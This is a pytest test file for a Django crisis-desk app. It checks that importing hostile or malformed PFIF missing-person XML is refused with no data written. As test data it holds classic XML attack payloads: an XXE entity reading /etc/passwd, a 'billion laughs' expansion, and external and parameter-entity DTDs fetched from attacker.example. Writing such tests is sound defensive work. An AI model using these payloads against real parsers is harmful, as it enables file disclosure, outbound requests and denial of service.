"""Malformed and hostile XML: each is refused as a whole with a clear error, writes nothing
(the registry and the earlier imports are as they were), and leaves a refusal in the audit log.

The hostile files are the classic ones: an external entity reading a local file (XXE), a
"billion laughs" entity expansion, an external DTD, a parameter entity, a file over the size
cap, and XML that is not well-formed or not PFIF 1.4."""

import pytest
from django.test import override_settings

from crisisdesk.common.models import AuditEvent
from crisisdesk.common.origin import SYSTEM
from crisisdesk.pfif.audit_actions import PFIF_IMPORT_REFUSED
from crisisdesk.pfif.errors import MESSAGES, PfifError, PfifRefused
from crisisdesk.pfif.format import document_parse
from crisisdesk.pfif.imports import pfif_import
from crisisdesk.pfif.models import PfifBatch, PfifNote, PfifPerson
from crisisdesk.registry.models import Person, StatusEvent

pytestmark = pytest.mark.django_db

PERSON = (
    "<pfif:person><pfif:person_record_id>pf.example.net/1</pfif:person_record_id>"
    "<pfif:source_date>2026-03-01T00:00:00Z</pfif:source_date><pfif:full_name>{name}</pfif:full_name></pfif:person>"
)
NS = 'xmlns:pfif="http://zesty.ca/pfif/1.4"'

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE pfif:pfif [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<pfif:pfif {NS}>{PERSON.format(name="&secret;")}</pfif:pfif>""".encode()

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">\n' for n in range(1, 10)
    )
    + f"]>\n<pfif:pfif {NS}>{PERSON.format(name='&lol9;')}</pfif:pfif>"
).encode()

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE pfif:pfif SYSTEM "http://attacker.example/pfif.dtd">
<pfif:pfif {NS}>{PERSON.format(name="Olena")}</pfif:pfif>""".encode()

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE pfif:pfif [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<pfif:pfif {NS}>{PERSON.format(name="Olena")}</pfif:pfif>""".encode()

MALFORMED = f"<pfif:pfif {NS}><pfif:person><pfif:full_name>Olena</pfif:person></pfif:pfif>".encode()
NOT_XML = b"\x89PNG\r\n\x1a\n" + bytes(100)
OLDER_VERSION = b'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.2"></pfif:pfif>'
NOT_PFIF = b"<rss><channel/></rss>"
EMPTY_PFIF = f"<pfif:pfif {NS}></pfif:pfif>".encode()

CASES = [
    ("xxe", XXE, PfifError.XML_DTD),
    ("billion_laughs", BILLION_LAUGHS, PfifError.XML_DTD),
    ("external_dtd", EXTERNAL_DTD, PfifError.XML_DTD),
    ("parameter_entity", PARAMETER_ENTITY, PfifError.XML_DTD),
    ("malformed", MALFORMED, PfifError.XML_MALFORMED),
    ("not_xml", NOT_XML, PfifError.XML_MALFORMED),
    ("older_version", OLDER_VERSION, PfifError.VERSION_UNSUPPORTED),
    ("not_pfif", NOT_PFIF, PfifError.NOT_PFIF),
    ("no_records", EMPTY_PFIF, PfifError.NO_RECORDS),
    ("empty", b"   ", PfifError.FILE_EMPTY),
]


def _state():
    return (
        Person.objects.count(),
        StatusEvent.objects.count(),
        PfifBatch.objects.count(),
        PfifPerson.objects.count(),
        PfifNote.objects.count(),
    )


@pytest.mark.parametrize(("name", "content", "code"), CASES, ids=[case[0] for case in CASES])
def test_hostile_or_broken_files_are_refused_whole_and_lose_nothing(users, name, content, code):
    # given an earlier import that went well
    good = f"<pfif:pfif {NS}>{PERSON.format(name='Olena Kovalenko')}</pfif:pfif>".encode()
    pfif_import(actor=users["desk_chief"], origin=SYSTEM, file_name="good.xml", content=good)
    before = _state()

    with pytest.raises(PfifRefused) as refused:
        pfif_import(actor=users["desk_chief"], origin=SYSTEM, file_name=f"{name}.xml", content=content)

    assert refused.value.code == code
    assert refused.value.message == str(MESSAGES[code])
    assert _state() == before
    assert Person.objects.get().family_name == "Kovalenko"  # nothing of the hostile file
    audit = AuditEvent.objects.get(action=PFIF_IMPORT_REFUSED)
    assert audit.changes["reason"] == code.value


def test_no_entity_is_ever_expanded_nor_a_file_read():
    with pytest.raises(PfifRefused):
        document_parse(XXE, max_bytes=10**6, max_records=10)
    # nothing of /etc/passwd reaches an error message either
    try:
        document_parse(XXE, max_bytes=10**6, max_records=10)
    except PfifRefused as refused:
        assert "root:" not in str(refused.details) and "root:" not in refused.message


@override_settings(PFIF_IMPORT_MAX_BYTES=2_000)
def test_a_file_over_the_size_cap_is_refused_before_it_is_parsed(users):
    huge = f"<pfif:pfif {NS}>{PERSON.format(name='x' * 5_000)}</pfif:pfif>".encode()

    with pytest.raises(PfifRefused) as refused:
        pfif_import(actor=users["desk_chief"], origin=SYSTEM, file_name="huge.xml", content=huge)

    assert refused.value.code == PfifError.FILE_TOO_LARGE
    assert refused.value.details == {"max_bytes": 2_000, "bytes": len(huge)}
    assert not Person.objects.exists()


@override_settings(PFIF_IMPORT_MAX_RECORDS=3)
def test_a_file_with_more_records_than_the_cap_is_refused(users):
    many = (
        f"<pfif:pfif {NS}>{''.join(PERSON.replace('/1<', f'/{n}<').format(name='A B') for n in range(5))}</pfif:pfif>"
    )

    with pytest.raises(PfifRefused) as refused:
        pfif_import(actor=users["desk_chief"], origin=SYSTEM, file_name="many.xml", content=many.encode())

    assert refused.value.code == PfifError.TOO_MANY_RECORDS
    assert not Person.objects.exists()


def test_a_field_that_holds_elements_or_is_repeated_rejects_its_record_only(users):
    content = (
        f"<pfif:pfif {NS}>"
        "<pfif:person><pfif:person_record_id>pf.example.net/1</pfif:person_record_id>"
        "<pfif:source_date>2026-03-01T00:00:00Z</pfif:source_date>"
        "<pfif:full_name>A</pfif:full_name><pfif:full_name>B</pfif:full_name></pfif:person>"
        "<pfif:person><pfif:person_record_id>pf.example.net/2</pfif:person_record_id>"
        "<pfif:source_date>2026-03-01T00:00:00Z</pfif:source_date>"
        "<pfif:full_name><b>bold</b></pfif:full_name><pfif:shoe_size>44</pfif:shoe_size></pfif:person>"
        + PERSON.replace("/1<", "/3<").format(name="Olena Kovalenko")
        + "</pfif:pfif>"
    ).encode()

    batch = pfif_import(actor=users["desk_chief"], origin=SYSTEM, file_name="odd.xml", content=content).batch

    assert (batch.persons_imported, batch.persons_rejected) == (1, 2)
    errors = dict(batch.rejected.values_list("record_id", "errors"))
    assert errors["pf.example.net/1"] == {"full_name": ["field_repeated"]}
    assert errors["pf.example.net/2"] == {
        "full_name": ["field_not_text", "field_required"],
        "shoe_size": ["field_unknown"],
    }


def test_a_nested_note_naming_another_person_is_rejected(users):
    content = (
        f"<pfif:pfif {NS}><pfif:person><pfif:person_record_id>pf.example.net/1</pfif:person_record_id>"
        "<pfif:source_date>2026-03-01T00:00:00Z</pfif:source_date><pfif:full_name>A B</pfif:full_name>"
        "<pfif:note><pfif:note_record_id>pf.example.net/n</pfif:note_record_id>"
        "<pfif:person_record_id>pf.example.net/2</pfif:person_record_id>"
        "<pfif:author_name>x</pfif:author_name><pfif:source_date>2026-03-01T00:00:00Z</pfif:source_date>"
        "</pfif:note></pfif:person></pfif:pfif>"
    ).encode()

    batch = pfif_import(actor=users["desk_chief"], origin=SYSTEM, file_name="x.xml", content=content).batch

    assert (batch.persons_imported, batch.notes_rejected) == (1, 1)
    assert batch.rejected.get().errors == {"person_record_id": ["note_person_mismatch"]}
